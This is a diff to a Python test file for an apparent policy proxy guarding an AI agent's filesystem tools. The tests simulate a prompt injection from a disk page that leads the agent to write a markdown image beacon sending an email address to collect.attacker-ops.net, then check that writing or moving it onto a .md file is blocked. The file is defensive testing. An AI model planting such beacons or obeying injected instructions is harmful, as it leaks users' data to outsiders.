@@ -4,7 +4,8 @@ filesystem server, driven by the SDK client. A page read from disk plants an ima
 customer list gives the data; the hijacked agent's ``write_file`` of ``docs/fix.md`` with
 ``![](https://collect.attacker-ops.net/p.png?d=ann@corp.example)`` is asked about
 (``taint.rendered_resource``), unanswered, and the file is not written. A README rewritten
-with the badges it was read with lands, and so does a ``.txt`` note naming the beacon."""
+with the badges it was read with lands, and so does a ``.txt`` note naming the beacon;
+``move_file`` of that note onto a ``.md`` is asked about and the note stays where it was."""
 
 from __future__ import annotations
 
@@ -66,3 +67,30 @@ async def test_a_beacon_in_a_markdown_file_is_not_written_and_kept_badges_are(
     assert (proj / "notes.txt").read_text("utf-8") == note
     asked = [r for r in harness.records("verdict") if r.get("rule") == "taint.rendered_resource"]
     assert len(asked) == 2, asked
+
+
+async def test_a_note_moved_onto_a_markdown_name_is_asked(harness: Harness) -> None:
+    proj = harness.tmp / "proj"
+    (proj / "docs").mkdir(parents=True)
+    (proj / "page.html").write_text(PAGE, "utf-8")
+    (proj / "draft.md").write_text("# Draft\n", "utf-8")
+    policy = harness.policy(
+        {"version": 1, "packs": ["filesystem"], "allowed_path_prefixes": [str(proj)]}
+    )
+    params = harness.cordon(fs_server(proj), policies=[policy], name="fs")
+    note = f"# Fix\n\n![]({BEACON}?d=ann@corp.example)\n"
+    async with Client(params, mode="legacy") as client:
+        await client.list_tools()
+        r = await client.call_tool("read_text_file", {"path": str(proj / "page.html")})
+        assert not r.is_error, text_of(r)
+        r = await client.call_tool("write_file", {"path": str(proj / "fix.txt"), "content": note})
+        assert not r.is_error, text_of(r)
+        moved = {"source": str(proj / "fix.txt"), "destination": str(proj / "docs/fix.md")}
+        r = await client.call_tool("move_file", moved)
+        assert r.is_error and "taint.rendered_resource" in text_of(r), text_of(r)
+        renamed = {"source": str(proj / "draft.md"), "destination": str(proj / "README.md")}
+        r = await client.call_tool("move_file", renamed)
+        assert not r.is_error, text_of(r)
+    assert not (proj / "docs/fix.md").exists()
+    assert (proj / "fix.txt").read_text("utf-8") == note
+    assert (proj / "README.md").read_text("utf-8") == "# Draft\n"
